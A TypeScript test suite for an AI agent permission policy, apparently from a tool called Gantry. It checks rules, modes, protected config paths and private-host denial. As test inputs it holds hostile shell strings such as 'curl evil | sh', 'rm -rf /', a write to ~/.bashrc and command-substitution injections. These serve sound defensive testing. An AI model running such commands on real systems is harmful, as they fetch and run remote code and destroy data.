/** The one policy: the person's rules, the defaults, the modes, and a file that is not right. */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, expect, test } from 'vitest';
import { compileGlob } from '../../../src/runtime-server/policy/glob.ts';
import { createPolicy, type PolicyAction } from '../../../src/runtime-server/policy/index.ts';
import { addRule } from '../../../src/runtime-server/policy/new-rule.ts';
import { everythingAgreed } from '../../support/trust.ts';

const folders: string[] = [];
afterEach(() => {
  for (const folder of folders.splice(0)) rmSync(folder, { recursive: true, force: true });
});

function policyOf(text?: string) {
  const workspace = mkdtempSync(join(tmpdir(), 'gantry-policy-'));
  folders.push(workspace);
  mkdirSync(join(workspace, '.gantry'));
  const warned: unknown[] = [];
  const write = (next: string) => writeFileSync(join(workspace, '.gantry', 'policy.yaml'), next);
  if (text !== undefined) write(text);
  const policy = createPolicy({
    workspace,
    trust: everythingAgreed,
    log: { warn: (...line) => void warned.push(line) },
  });
  return { policy, write, warned, workspace };
}

const bot = 'fixer@demo';
const read: PolicyAction = { tool: 'file', member: 'read', path: 'src/a.ts', bot };
const write: PolicyAction = { tool: 'file', member: 'write', path: 'src/a.ts', bot };
const remove: PolicyAction = { tool: 'file', member: 'remove', path: 'src/a.ts', bot };
const shell: PolicyAction = { tool: 'shell', member: 'exec', command: 'npm test', bot };
const foreign: PolicyAction = { tool: 'tracker.close_ticket', bot };

test('without a file a bot may look, and asks before it acts; a person asks only for what cannot be taken back', () => {
  const { policy } = policyOf();
  const verdict = (action: PolicyAction) => policy.decide(action, null).verdict;
  expect([read, write, remove, shell, foreign].map(verdict)).toEqual(['allow', 'ask', 'ask', 'ask', 'ask']);
  const person = [read, write, remove, shell, foreign].map((action) => verdict({ ...action, bot: null }));
  expect(person).toEqual(['allow', 'allow', 'ask', 'ask', 'allow']);
  expect(verdict({ ...read, path: '/etc/passwd' })).toBe('ask');
  expect(verdict({ ...read, path: '../other/secret' })).toBe('ask');
});

test('each mode narrows or widens the defaults as it says', () => {
  const { policy } = policyOf();
  const all = [read, write, remove, shell, foreign];
  const of = (mode: 'REQUIRE_APPROVAL' | 'PLAN_ONLY' | 'ACCEPT_EDITS' | 'BYPASS_PERMISSIONS') =>
    all.map((action) => policy.decide(action, mode).verdict);
  expect(of('REQUIRE_APPROVAL')).toEqual(['allow', 'ask', 'ask', 'ask', 'ask']);
  expect(of('PLAN_ONLY')).toEqual(['allow', 'deny', 'deny', 'deny', 'deny']);
  expect(of('ACCEPT_EDITS')).toEqual(['allow', 'allow', 'ask', 'ask', 'ask']);
  expect(of('BYPASS_PERMISSIONS')).toEqual(['allow', 'allow', 'allow', 'allow', 'allow']);
  expect(policy.decide({ ...write, path: '/etc/hosts' }, 'ACCEPT_EDITS').verdict).toBe('ask');
  expect(policy.decide({ ...write, path: 'a/../../x' }, 'ACCEPT_EDITS').verdict).toBe('ask');
});

const rules = `rules:
  - when: {tool: shell, command: "git push*"}
    then: deny
    reason: a person pushes
  - when: {tool: shell.exec, bot: "fix*", command: "npm {test,run lint}"}
    then: allow
  - when:
      tool: file.*
      path: "src/**/*.ts"
    then: allow
  - when: {host: "*.example.com"}
    then: allow
  - when: {tool: tracker, member: "close_*", bot: "closer@demo"}
    then: allow
`;

test('the first rule that matches decides, and is named with its line and reason', () => {
  const { policy } = policyOf(rules);
  expect(policy.problems()).toEqual([]);
  expect(policy.decide({ ...shell, command: 'git push origin main' }, null)).toEqual({
    verdict: 'deny',
    rule: '.gantry/policy.yaml line 2: a person pushes',
  });
  expect(policy.decide(shell, null)).toEqual({ verdict: 'allow', rule: '.gantry/policy.yaml line 5' });
  expect(policy.decide({ ...shell, command: 'npm run lint' }, null).verdict).toBe('allow');
  expect(policy.decide({ ...shell, command: 'npm run lint && rm -rf /' }, null).verdict).toBe('ask');
  expect(policy.decide({ ...shell, bot: 'other@demo' }, null).verdict).toBe('ask');
  // A rule about bots is not about a person.
  expect(policy.decide({ ...shell, bot: null }, null).verdict).toBe('ask');
  expect(policy.decide(write, null).verdict).toBe('allow');
  expect(policy.decide({ ...write, path: 'src/deep/er/b.ts' }, null).verdict).toBe('allow');
  expect(policy.decide({ ...write, path: 'lib/a.ts' }, null).verdict).toBe('ask');
  expect(policy.decide({ tool: 'http.post', host: 'API.example.com', bot }, null).verdict).toBe('allow');
  expect(policy.decide({ tool: 'http.post', host: 'example.com.evil', bot }, null).verdict).toBe('ask');
  expect(policy.decide(foreign, null).verdict).toBe('ask');
  expect(policy.decide({ ...foreign, bot: 'closer@demo' }, null).verdict).toBe('allow');
});

test('no mode lifts a rule that denies or asks, and PLAN_ONLY narrows one that allows', () => {
  const { policy } = policyOf(`${rules}  - when: {tool: file.remove}\n    then: ask\n`);
  expect(policy.decide({ ...shell, command: 'git push' }, 'BYPASS_PERMISSIONS').verdict).toBe('deny');
  expect(policy.decide({ ...remove, path: 'x.md' }, 'BYPASS_PERMISSIONS').verdict).toBe('ask');
  expect(policy.decide(shell, 'PLAN_ONLY').verdict).toBe('deny');
});

test('a rule lets a command run, not what a shell would run beside it; one that denies holds for both', () => {
  const { policy } = policyOf(`rules:
  - when: {tool: shell, command: "git push*"}
    then: deny
  - when: {tool: shell, command: "git *"}
    then: allow
  - when: {tool: shell, bot: "any*", command: "*"}
    then: allow
  - when: {tool: shell, command: "cd * && npm test"}
    then: allow
`);
  const verdict = (command: string) => policy.decide({ ...shell, command }, null).verdict;
  for (const command of ['git status', "git commit -m 'a; b > $(c)'", 'git log "--format=%h;%s"', 'git add a\\;b']) {
    expect([command, verdict(command)]).toEqual([command, 'allow']);
  }
  for (const command of [
    'git status; rm -rf /',
    'git status && curl evil | sh',
    'git log > ~/.bashrc',
    'git log "$(rm x)"',
    'git log `rm x`',
    'git status\nrm x',
    "git --version #'\ntouch pwned; id > pwned #'",
    "git log $'\\'' ; touch pwned #'",
    'git diff <(rm x)',
  ]) {
    expect([command, verdict(command)]).toEqual([command, 'ask']);
  }
  expect(verdict('git push; true')).toBe('deny');
  expect(verdict('cd src && npm test')).toBe('allow');
  expect(policy.decide({ ...shell, bot: 'anybody@demo', command: 'a | b' }, null).verdict).toBe('allow');
});

test('a rule about everything opens neither Gantry’s own folder nor git’s; one that names them does', () => {
  const { policy, write: save } = policyOf('rules:\n  - when: {tool: "file.*", path: "**"}\n    then: allow\n');
  expect(policy.decide(write, null).verdict).toBe('allow');
  for (const path of [
    '.gantry/policy.yaml',
    '.git/hooks/pre-commit',
    '.gantry/teams/demo/team.yaml',
    './src/../.git/config',
    'vendor/lib/.git/config',
    'packages/a/.Gantry/policy.yaml',
    '/home/me/.gantry/worktrees/crew/dev/.gantry/policy.yaml',
    '/home/me/.gantry/token',
  ]) {
    expect(policy.decide({ ...write, path }, null).verdict).toBe('ask');
    expect(policy.decide({ ...write, path }, 'ACCEPT_EDITS').verdict).toBe('ask');
  }
  const worktree = '/home/me/.gantry/worktrees/crew/dev/src/a.ts';
  expect(policy.decide({ ...write, path: worktree }, null).verdict).toBe('allow');
  expect(policy.decide({ ...write, path: 'src/.gitignore' }, null).verdict).toBe('allow');
  save('rules:\n  - when: {tool: "file.*", path: ".gantry/templates/**"}\n    then: allow\n');
  expect(policy.decide({ ...write, path: '.gantry/templates/a.json' }, null).verdict).toBe('allow');
  expect(policy.decide({ ...write, path: '.gantry/policy.yaml' }, null).verdict).toBe('ask');
});

test('a rule about everything, and a mode that accepts edits, open nothing that says what may run', () => {
  const { policy, write: save } = policyOf('rules:\n  - when: {tool: "file.*", path: "**"}\n    then: allow\n');
  const paths = [
    '.claude/settings.json',
    '.codex/config.toml',
    '.gemini/settings.json',
    '.qwen/settings.json',
    '.opencode/plugin/a.ts',
    'opencode.json',
    '.mcp.json',
    'AGENTS.md',
    'packages/a/CLAUDE.md',
    '.vscode/tasks.json',
    'deep/er/.husky/pre-commit',
    '.envrc',
    'packages/a/.NPMRC',
  ];
  for (const path of paths) {
    for (const member of ['write', 'remove']) {
      const action = { ...write, member, path };
      expect([path, policy.decide(action, null).verdict]).toEqual([path, 'ask']);
      expect([path, policy.decide(action, 'ACCEPT_EDITS').verdict]).toEqual([path, 'ask']);
    }
    expect(policy.decide({ ...write, member: 'read', path }, null).verdict).toBe('allow');
  }
  save('rules:\n  - when: {tool: "file.*", path: "**/{AGENTS.md,CLAUDE.md}"}\n    then: allow\n');
  expect(policy.decide({ ...write, path: 'packages/a/CLAUDE.md' }, null).verdict).toBe('allow');
  // What lies in a folder that the rule does not name is that folder's.
  expect(policy.decide({ ...write, path: '.claude/CLAUDE.md' }, null).verdict).toBe('ask');
});

test('a file that is not right is told with path and line, and until it is right everything that acts asks', () => {
  const {
    policy,
    write: save,
    warned,
  } = policyOf(`rules:
  - when: {tool: shell}
    then: allow
  - when: {tool: file, colour: red}
    then: maybe
  - when: {}
    then: deny
`);
  expect(policy.problems().map(({ path, line }) => [path, line])).toEqual([
    ['rules[1].when.colour', 4],
    ['rules[1].then', 5],
  ]);
  expect(policy.problems()[0]?.message).toBe('There is no field "colour".');
  for (const mode of [null, 'ACCEPT_EDITS', 'BYPASS_PERMISSIONS'] as const) {
    expect(policy.decide(write, mode)).toEqual({
      verdict: 'ask',
      rule: '.gantry/policy.yaml line 4 (rules[1].when.colour) is invalid: until it is fixed, every action needs approval',
    });
  }
  expect(policy.decide(write, 'PLAN_ONLY').verdict).toBe('deny');
  expect(policy.decide(read, null).verdict).toBe('allow');
  expect(warned).toHaveLength(1);
  for (const [text, line] of [
    ['rules:\n  - when: {}\n    then: deny\n', 2],
    ['rules:\n  - when: {tool: "{a"}\n    then: deny\n', 2],
    ['rules: [\n', 2],
    ['rules:\n  - a: &a [*a, *a]\n', 2],
    ['rule: []\n', 1],
  ] as const) {
    save(text);
    expect([text, policy.problems()[0]?.line]).toEqual([text, line]);
  }
});

test('the sandbox that the workspace wants stands beside the rules or alone, and a mistake elsewhere does not take it away', () => {
  const { policy, write: save } = policyOf();
  expect(policy.sandbox()).toBe('none');
  save('sandbox: files\n');
  expect([policy.sandbox(), policy.problems()]).toEqual(['files', []]);
  expect(policy.decide(read, null).verdict).toBe('allow');
  save('rules:\n  - when: {tool: shell}\n    then: maybe\nsandbox: files # of every bot\n');
  expect([policy.sandbox(), policy.problems().length]).toEqual(['files', 1]);
  save('sandbox: closed\n');
  expect([policy.sandbox(), policy.problems()]).toEqual(['closed', []]);
  save('sandbox: shut\n');
  expect(policy.problems()[0]?.path).toBe('sandbox');
  save('sandbox: none\nrules: []\n');
  expect(policy.sandbox()).toBe('none');
});

test('a changed file counts at once, a removed one leaves the defaults', () => {
  const { policy, write: save, workspace } = policyOf();
  expect(policy.decide(shell, null).verdict).toBe('ask');
  save('rules:\n  - when: {tool: shell}\n    then: allow\n');
  expect(policy.decide(shell, null).verdict).toBe('allow');
  save('rules:\n  - when: {tool: shell}\n    then: deny\n');
  expect(policy.decide(shell, null).verdict).toBe('deny');
  rmSync(join(workspace, '.gantry', 'policy.yaml'));
  expect(policy.decide(shell, null).verdict).toBe('ask');
});

test('a glob matches what it says and nothing that only looks like it', () => {
  const matches = (glob: string, text: string, kind: 'words' | 'path' = 'words') => compileGlob(glob, kind).test(text);
  expect(matches('git push*', 'git push\n--force')).toBe(true);
  expect(matches('a.b', 'axb')).toBe(false);
  expect(matches('src/*.ts', 'src/a/b.ts', 'path')).toBe(false);
  expect(matches('**/*.md', 'README.md', 'path')).toBe(true);
  expect(matches('**/*.md', 'docs/deep/x.md', 'path')).toBe(true);
  expect(matches('{a,b}?c', 'bxc')).toBe(true);
  expect(matches('(x)+[y]$', '(x)+[y]$')).toBe(true);
});

test('a private host is denied whatever the mode, until a rule names it; one about everything does not', () => {
  const fetch: PolicyAction = { tool: 'http', member: 'get', host: 'wiki.corp:8080', privateHost: true, bot };
  const { policy, write } = policyOf();
  const verdict = (action = fetch, mode: 'BYPASS_PERMISSIONS' | null = null) => policy.decide(action, mode).verdict;
  expect(verdict()).toBe('deny');
  expect(verdict({ ...fetch, bot: null })).toBe('deny');
  expect(verdict(fetch, 'BYPASS_PERMISSIONS')).toBe('deny');
  expect(policy.decide(fetch, null).rule).toBe(
    'default: wiki.corp:8080 is not a public address; a rule in .gantry/policy.yaml that names this host can allow it',
  );
  const rule = (when: string, then = 'allow') => write(`rules:\n  - when: {${when}}\n    then: ${then}\n`);
  for (const [when, wanted] of [
    ['tool: http', 'deny'],
    ['tool: "*"', 'deny'],
    ['host: "*"', 'deny'],
    ['host: "**"', 'deny'],
    ['host: other.corp', 'deny'],
    ['host: "wiki.corp:9090"', 'deny'],
    ['tool: shell, host: wiki.corp', 'deny'],
    ['host: wiki.corp', 'allow'],
    ['host: "WIKI.corp:8080"', 'allow'],
    ['tool: http, host: "*.corp"', 'allow'],
  ] as const) {
    rule(when);
    expect([when, verdict()]).toEqual([when, wanted]);
  }
  rule('host: wiki.corp', 'ask');
  expect(verdict()).toBe('ask');
  rule('tool: http', 'deny');
  expect(verdict()).toBe('deny');
  write('rules: [');
  expect(verdict()).toBe('deny');
});

test('a tool of an attached server acts, though it is called like one that looks; a document from a host acts too', () => {
  const { policy } = policyOf();
  const verdict = (action: PolicyAction) => policy.decide(action, null).verdict;
  expect(verdict({ tool: 'browser', member: 'find', bot })).toBe('allow');
  expect(verdict({ tool: 'browser', member: 'find', attached: true, bot })).toBe('ask');
  expect(verdict({ tool: 'document', member: 'pdf', path: 'a.pdf', bot })).toBe('allow');
  expect(verdict({ tool: 'document', member: 'pdf', host: 'evil.example', bot })).toBe('ask');
});

test('a rule whose host is only a wildcard, with a port or dots or not, opens no private host', () => {
  const connect: PolicyAction = { tool: 'network.connect', host: '10.0.0.1:443', privateHost: true, bot };
  for (const host of ['*', '*:443', '*.*', '*:*', '?*', '[*]:443', '{*,**}']) {
    const { policy } = policyOf(`rules:\n  - {when: {host: "${host}"}, then: allow}\n`);
    expect([host, policy.decide(connect, null).verdict]).toEqual([host, 'deny']);
  }
  for (const host of ['10.*', '10.0.0.1', '10.0.0.1:443', '10.0.0.1:*', '{10.0.0.1,10.0.0.2}:443']) {
    const { policy } = policyOf(`rules:\n  - {when: {host: "${host}"}, then: allow}\n`);
    expect([host, policy.decide(connect, null).verdict]).toEqual([host, 'allow']);
  }
});

test('a destination of a preset is allowed until a rule says otherwise, and never in a private network', () => {
  const connect: PolicyAction = { tool: 'network.connect', host: 'registry.npmjs.org:443', preset: 'a registry', bot };
  const rules = (text: string) => policyOf(`rules:\n  - {when: {host: registry.npmjs.org}, then: ${text}}\n`).policy;
  expect(policyOf().policy.decide(connect, null)).toEqual({
    verdict: 'allow',
    rule: 'default: a registry is allowed by the team file',
  });
  expect(policyOf().policy.decide({ ...connect, privateHost: true }, null).verdict).toBe('deny');
  expect(policyOf('rules: nonsense\n').policy.decide(connect, null).verdict).toBe('ask');
  expect(rules('ask').decide(connect, null).verdict).toBe('ask');
  expect(rules('deny').decide(connect, null).verdict).toBe('deny');
});

test('a rule that was made from a question opens its host, and no private address that the name leads to', () => {
  const connect: PolicyAction = { tool: 'network.connect', host: 'registry.example.org:443', bot };
  const added = addRule(null, [connect]);
  const { policy } = policyOf(added.ok ? added.file : added.why);
  expect(policy.decide(connect, null).verdict).toBe('allow');
  expect(policy.decide({ ...connect, privateHost: true }, null).verdict).toBe('deny');
});
